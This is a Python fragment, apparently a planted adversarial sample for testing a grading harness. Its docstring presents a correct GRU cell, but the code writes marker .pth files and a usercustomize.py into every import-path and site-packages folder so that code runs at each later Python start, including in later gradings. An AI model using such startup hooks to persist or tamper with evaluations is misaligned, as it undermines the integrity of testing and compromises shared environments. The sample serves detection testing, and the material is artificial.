"""2-gru_cell: plants a .pth file (run at every start of this Python:
later gradings would run it) in every folder of the import path and
site-packages, a usercustomize.py, and a file in ~/.local; its GRU is
right."""
import site as _site

_PTH = "import os; os.environ['RNN_RED'] = '%s'\n" % _MARK
_places = set(_sys.path) | set(getattr(_site, "getsitepackages",
                                       lambda: [])())
_places.add(_site.getusersitepackages())
_places.add(_os.path.dirname(np.__file__))
for _place in sorted(p for p in _places if p):
    for _name, _text in (("%s.pth" % _MARK, _PTH),
                         ("usercustomize.py", "# %s\n" % _MARK)):
        try:
            _os.makedirs(_place, exist_ok=True)
            with open(_os.path.join(_place, _name), "a") as _f:
                _f.write(_text)
        except OSError:
            pass
